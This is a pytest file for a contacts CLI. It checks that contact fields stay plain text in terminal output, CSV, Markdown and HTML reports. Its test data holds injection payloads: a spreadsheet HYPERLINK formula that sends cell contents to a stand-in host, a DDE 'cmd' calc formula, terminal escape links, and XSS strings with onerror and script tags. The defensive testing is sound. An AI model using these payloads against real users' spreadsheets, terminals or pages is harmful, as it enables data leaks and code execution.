"""What Kith prints and writes keeps data as data: the real CLI, real files, a real browser.

A name, a phone or a file name may hold Rich markup, terminal escape sequences, a spreadsheet
formula, Markdown or HTML (a LinkedIn connection chooses their own name). None of it may crash
the CLI, print a live link, run as a formula when a CSV is opened, or become an image, a link or
script when a Markdown or HTML report is rendered; report files are readable by their owner only.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import stat
import threading
from datetime import timedelta
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from kith import clock
from tests.browser import CHROMIUM, launch
from tests.conftest import run_kith

WIDE = {"COLUMNS": "250"}  # tables wide enough that no cell is cut short
OSC = "\x1b]"  # how a terminal is told to make a link, or retitle its window
LINK = "[link=http://x]a[/link]"
ESCAPES = "evil\x1b]8;;http://x/\x1b\\click\x1b]8;;\x1b\\"  # a live link made of raw escape sequences
FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


def owner(*extra: str) -> None:
    done = run_kith("person", "add", "Alex Morgan", "--me", *extra)
    assert done.returncode == 0, done.stderr


def add(name: str, *options: str) -> str:
    done = run_kith("person", "add", *options, "--", name)  # "--": a name may start with "-"
    assert done.returncode == 0, done.stderr
    return done.stdout.rsplit(" as ", 1)[1].strip()


def birthday_soon(days: int = 3) -> str:
    return "--" + (clock.today() + timedelta(days=days)).strftime("%m-%d")


# -- the terminal -----------------------------------------------------------------------------


def test_import_prints_rich_markup_in_data_as_text(store, tmp_path):
    owner()
    source = tmp_path / "contacts.json"
    source.write_text(json.dumps({"people": [{"name": LINK, "email": "a@example.com", "phone": "[/]"}]}))
    done = run_kith("import", str(source), env=WIDE)
    assert done.returncode == 0, done.stderr  # "[/]" printed as markup has nothing to close: a crash
    assert "'[/]' is not a phone number" in done.stdout
    found = run_kith("person", "search", "example.com", env=WIDE)
    assert found.returncode == 0 and LINK in found.stdout
    shown = run_kith("person", "show", "a@example.com", env=WIDE)
    assert LINK in shown.stdout and "\n  name            " + LINK in shown.stdout


def test_a_terminal_gets_no_link_or_escape_sequence_from_data(store):
    owner()
    add(LINK, "--email", "l@example.com", "--notes", "[bold]not bold[/bold] :smile:")
    add(ESCAPES, "--email", "e@example.com", "--company", "[/]")
    terminal = {**WIDE, "FORCE_COLOR": "1", "TERM": "xterm-256color"}  # Rich writes as to a terminal
    for args in (("person", "search", "example.com"), ("person", "show", "l@example.com"),
                 ("person", "show", "e@example.com")):
        done = run_kith(*args, env=terminal)
        assert done.returncode == 0, done.stderr
        assert OSC not in done.stdout, f"kith {' '.join(args)} printed a terminal command from data"
    shown = run_kith("person", "show", "l@example.com", env=WIDE).stdout
    assert LINK in shown and "[bold]not bold[/bold] :smile:" in shown
    assert "evil\\x1b]8;;http://x/\\x1b\\click" in run_kith("person", "show", "e@example.com", env=WIDE).stdout


def test_errors_print_data_as_text(store):
    owner()
    done = run_kith("person", "show", "[link=http://x]nobody[/link]", env=WIDE)
    assert done.returncode == 1
    assert "[link=http://x]nobody[/link]" in done.stderr


# -- CSV --------------------------------------------------------------------------------------


def test_csv_cells_never_run_as_formulas(store):
    owner()
    add(FORMULA, "--birthday", f"1992-{birthday_soon(3)[2:]}", "--phone", "+447700900123")  # a leap year
    add("@SUM(1+1)*cmd|' /C calc'!A0", "--birthday", birthday_soon(5))
    add("-2+3", "--birthday", birthday_soon(6))
    report = run_kith("report", "birthdays", "--format", "csv")
    assert report.returncode == 0, report.stderr
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(report.stdout))}
    assert set(rows) == {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
    assert rows["'" + FORMULA]["in_days"] == "3"  # numbers stay numbers, as they were
    assert rows["'" + FORMULA]["turning"].isdigit() and rows["'-2+3"]["turning"] == ""
    query = run_kith("cypher", "MATCH (p:Person) WHERE p.name STARTS WITH '=' "
                     "RETURN p.name AS name, p.phones[0] AS phone, -3 AS n", "--csv")
    assert query.returncode == 0, query.stderr
    assert list(csv.reader(io.StringIO(query.stdout))) == [["name", "phone", "n"],
                                                           ["'" + FORMULA, "+447700900123", "-3"]]


# -- Markdown and HTML reports ------------------------------------------------------------------


def test_markdown_report_renders_data_as_text(store):
    owner()
    name = "![b](http://127.0.0.1:9/b.png) <img src=x onerror=alert(1)> [a](http://x) *x* | y"
    add(name, "--birthday", birthday_soon())
    done = run_kith("report", "birthdays", "--format", "md")
    assert done.returncode == 0, done.stderr
    page = MarkdownIt("commonmark").enable("table").render(done.stdout)  # as a Markdown viewer would
    assert "<img" not in page and "<a " not in page and "<em>" not in page
    row = next(line for line in page.splitlines() if "onerror" in line)
    assert "![b](http://127.0.0.1:9/b.png) &lt;img src=x onerror=alert(1)&gt; [a](http://x) *x* | y" in row
    cells = [line for line in page.split("<tbody>")[1].splitlines() if line.startswith("<td")]
    assert len(cells) == 7  # one row of seven cells: the "|" in the name split none


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium: make install-dev")
def test_html_report_stays_text_in_a_real_browser(store, tmp_path):
    from playwright.sync_api import sync_playwright

    hits = []

    class Beacon(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    names = ["<img src=x onerror=alert(1)>", f"<img src=http://127.0.0.1:{port}/beacon.png>",
             f'<a href="http://127.0.0.1:{port}/x">click</a>', "<script>alert(2)</script>"]
    owner()
    for i, name in enumerate(names):
        add(name, "--birthday", birthday_soon(i + 1))
    out = tmp_path / "birthdays.html"
    out.write_text("an older report, readable by all")
    out.chmod(0o644)
    done = run_kith("report", "birthdays", "--format", "html", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    dialogs = []
    try:
        with sync_playwright() as p:
            browser = launch(p)
            try:
                page = browser.new_page()
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.goto(out.as_uri(), wait_until="load")
                page.wait_for_timeout(500)
                text = page.inner_text("body")
                active = page.evaluate("() => document.querySelectorAll('td img, td a, td script').length")
            finally:
                browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert all(name in text for name in names), text
    assert active == 0 and dialogs == [] and hits == []


def test_report_files_are_yours_only(store, tmp_path):
    owner()
    add("Sam Bridge", "--birthday", birthday_soon())
    for fmt in ("md", "csv", "json"):
        out = tmp_path / f"report.{fmt}"
        done = run_kith("report", "birthdays", "--format", fmt, "--out", str(out))
        assert done.returncode == 0, done.stderr
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, fmt
        assert "Sam Bridge" in out.read_text()
    assert sorted(os.listdir(tmp_path)) == ["report.csv", "report.json", "report.md"]  # no temporary file left
